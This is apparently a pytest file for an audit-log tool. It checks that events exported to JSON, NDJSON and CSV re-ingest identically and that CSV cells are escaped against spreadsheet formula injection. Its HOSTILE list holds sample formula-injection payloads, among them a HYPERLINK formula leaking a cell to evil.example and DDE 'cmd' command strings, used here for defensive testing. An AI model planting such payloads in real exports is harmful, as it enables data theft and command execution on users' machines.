"""Round trips: platform logs → ingest → store → export → ingest again → the same events.

What an auditor relies on: an export handed to a colleague (or to a second copy of
this tool) is the evidence itself, not a lossy report of it. For both platform
formats and each of JSON, NDJSON and CSV, every canonical column comes back
identical except provenance (``source_file``, ``source_line``, ``source_offset``:
where the event was read from, which is by definition the export file now) and,
for CSV, ``raw`` (the re-ingested raw text is the CSV line). That includes the
hostile strings a spreadsheet would run as formulas: the CSV writer prefixes them
with ``'`` and the loader strips exactly that prefix again.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import polars as pl
import pytest

from auditreports.export import export
from auditreports.schema import EVENT_SCHEMA
from auditreports.sources import load
from auditreports.store import open_store, write_store

# Formula-injection payloads (OWASP) plus the one that needs the reversible rule: ''=x.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tleading tab",
    "''=x",
    "'=already prefixed",
    "-2+3",
    "\n=split line",
    "\rcarriage return first",
    "'quoted' but harmless",
    'plain note, with a comma and "quotes"',
]
PROVENANCE = ("source_file", "source_line", "source_offset")
ROUND_TRIP_JSON = [c for c in EVENT_SCHEMA if c not in PROVENANCE]
ROUND_TRIP_CSV = [c for c in ROUND_TRIP_JSON if c != "raw"]


def _hostile(i: int) -> str:
    return HOSTILE[i % len(HOSTILE)]


def workspace_records(n: int = 24) -> list[dict[str, Any]]:
    actions = [
        ("authentication", "auth.login_failed", "failure"),
        ("authentication", "auth.permission_changed", "success"),
        ("configuration", "config.system_prompt_updated", "success"),
        ("data_access", "data.conversations_exported", "success"),
    ]
    out = []
    for i in range(n):
        category, action, outcome = actions[i % len(actions)]
        exported = action == "data.conversations_exported"
        changed = action == "auth.permission_changed"
        out.append(
            {
                "id": f"evt_{i:04d}",
                "sequence": 1000 + i,
                # milliseconds, and one with microseconds: both forms come back as written
                "occurred_at": f"2026-07-0{1 + i % 3}T{10 + i % 12:02d}:{i:02d}:07.{i * 37 % 1000:03d}Z"
                if i != 5
                else "2026-07-02T23:59:59.123456Z",
                "category": category,
                "action": action,
                "actor": {
                    "type": "api_key" if i % 7 == 3 else "user",
                    "id": f"usr_{i % 4}",
                    "email": f"user{i % 4}@acme.example",
                    "name": _hostile(i + 3) if i % 6 == 0 else f"User {i % 4}",
                    "role": "admin" if i % 2 else "agent",
                },
                "resource": {"type": "conversation" if exported else "workspace", "id": f"res_{i}"},
                "outcome": outcome,
                "ip_address": f"198.51.100.{i}",
                "user_agent": _hostile(i + 1),
                "details": {
                    "reason": _hostile(i),
                    "before": {"role": "agent", "note": _hostile(i)} if changed else None,
                    "after": {"role": "admin"} if changed else None,
                    "record_count": (-i if i % 8 == 7 else 40 + i) if exported else None,
                    "subject_ids": [f"cus_{i}", _hostile(i)] if exported else [],
                },
                "prev_hash": f"{i:064x}",
                "hash": f"{i + 1:064x}",
            }
        )
    return out


def conversation_records(n: int = 24) -> list[dict[str, Any]]:
    kinds = ["created", "claimed", "note_added", "message_sent", "reassigned", "resolved"]
    out = []
    for i in range(n):
        kind = kinds[i % len(kinds)]
        out.append(
            {
                "event_id": f"aev_{i:04d}",
                "conversation_id": f"conv_{i % 3}",
                "event_type": kind,
                "author": {
                    "kind": "bot" if kind == "message_sent" else "user",
                    "id": f"usr_{i % 4}",
                    "name": _hostile(i + 2) if i % 5 == 0 else f"Agent {i % 4}",
                },
                "timestamp": f"2026-07-0{1 + i % 3}T0{i % 10}:15:{i:02d}.{i * 11 % 1000:03d}Z",
                "before": {"assignee": None} if kind == "claimed" else None,
                "after": {"assignee": f"usr_{i % 4}", "note": _hostile(i)} if kind == "claimed" else None,
                "reason": _hostile(i) if kind in ("note_added", "reassigned") else None,
                "ip_address": f"203.0.113.{i}",
                "user_agent": _hostile(i + 4),
                "channel": ["web", "email", "whatsapp", "slack", "api"][i % 5],
                "customer_id": f"cus_{i % 5}",
            }
        )
    return out


def _write_sources(root: Path) -> Path:
    root.mkdir()
    ws = workspace_records()
    (root / "workspace.json").write_text(
        "[\n" + ",\n".join(json.dumps(r, ensure_ascii=False, separators=(",", ":")) for r in ws) + "\n]\n"
    )
    conv = conversation_records()
    (root / "conversation.ndjson").write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in conv))
    return root


@pytest.fixture(scope="module")
def ingested(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, pl.DataFrame]:
    """A store made by the real loaders from both platform formats, and its events."""
    base = tmp_path_factory.mktemp("roundtrip")
    src = _write_sources(base / "src")
    result = load(src)
    assert result.quarantine.height == 0, result.quarantine
    store = base / "store"
    write_store(store, result)
    events = open_store(store).events.collect()
    assert events.height == 48
    assert set(events["source"]) == {"workspace", "conversation"}
    return store, events


def _reingest(out: Path, tmp: Path) -> pl.DataFrame:
    """Load every exported file into a fresh store and read it back."""
    files = sorted(p for p in out.iterdir() if p.name != "manifest.json")
    result = load(files)
    assert result.quarantine.height == 0, result.quarantine.to_dicts()
    store = tmp / "again"
    write_store(store, result)
    return open_store(store).events.collect()


def _same(before: pl.DataFrame, after: pl.DataFrame, columns: list[str]) -> None:
    left = before.select(columns).sort("event_id")
    right = after.select(columns).sort("event_id")
    assert left.height == right.height
    for name in columns:
        differing = left.filter(
            ~left.get_column(name).eq_missing(right.get_column(name))
            if not isinstance(EVENT_SCHEMA[name], pl.List)
            else ~left.get_column(name).cast(pl.List(pl.String)).eq_missing(right.get_column(name))
        )
        assert differing.height == 0, (
            name,
            left.filter(pl.col("event_id").is_in(differing["event_id"].implode()))[name].to_list()[:3],
            right.filter(pl.col("event_id").is_in(differing["event_id"].implode()))[name].to_list()[:3],
        )
    assert left.equals(right)


@pytest.mark.parametrize("fmt", ["json", "ndjson"])
def test_json_exports_ingest_to_identical_events(ingested: tuple[Path, pl.DataFrame], tmp_path: Path, fmt: str) -> None:
    store, events = ingested
    out = tmp_path / "out"
    manifest = export(store, out, format=fmt, max_events=10)
    assert {f.platform for f in manifest.files} == {"workspace", "conversation"}
    again = _reingest(out, tmp_path)
    # raw included: the JSON record is the original bytes, so hash chains still verify
    _same(events, again, ROUND_TRIP_JSON)


def test_csv_export_ingests_to_identical_events_including_hostile_text(
    ingested: tuple[Path, pl.DataFrame], tmp_path: Path
) -> None:
    store, events = ingested
    out = tmp_path / "out"
    export(store, out, format="csv", max_events=10)
    # The files are safe to open in a spreadsheet: no string cell starts a formula ...
    for path in out.glob("*.csv"):
        for row in list(csv.reader(io.StringIO(path.read_text(), newline="")))[1:]:
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r", "\n")), (path.name, cell)
                assert not cell.startswith("-") or cell.lstrip("-").isdigit(), (path.name, cell)  # bare numbers only
    again = _reingest(out, tmp_path)
    # ... and yet every hostile note, reason, user agent and name comes back byte for byte.
    _same(events, again, ROUND_TRIP_CSV)
    hostile_back = set(again["reason"].drop_nulls()) | set(again["user_agent"].drop_nulls())
    assert set(HOSTILE) <= hostile_back


def test_csv_export_of_csv_ingested_events_round_trips_again(
    ingested: tuple[Path, pl.DataFrame], tmp_path: Path
) -> None:
    """CSV → store → JSON: events whose raw is a CSV line are rebuilt in the platform JSON layout."""
    store, events = ingested
    export(store, tmp_path / "csv", format="csv")
    from_csv = tmp_path / "from_csv"
    write_store(from_csv, load(sorted((tmp_path / "csv").glob("*.csv"))))
    export(from_csv, tmp_path / "json", format="json")
    again = _reingest(tmp_path / "json", tmp_path)
    _same(events, again, ROUND_TRIP_CSV)


def test_csv_keeps_a_crlf_inside_a_note(tmp_path: Path) -> None:
    record = conversation_records(1)[0] | {"event_type": "note_added", "reason": "line one\r\nline two"}
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "c.ndjson").write_text(json.dumps(record) + "\n")
    write_store(tmp_path / "store", load(tmp_path / "src"))
    export(tmp_path / "store", tmp_path / "out", format="csv")
    again = _reingest(tmp_path / "out", tmp_path)
    assert again["reason"].to_list() == ["line one\r\nline two"]
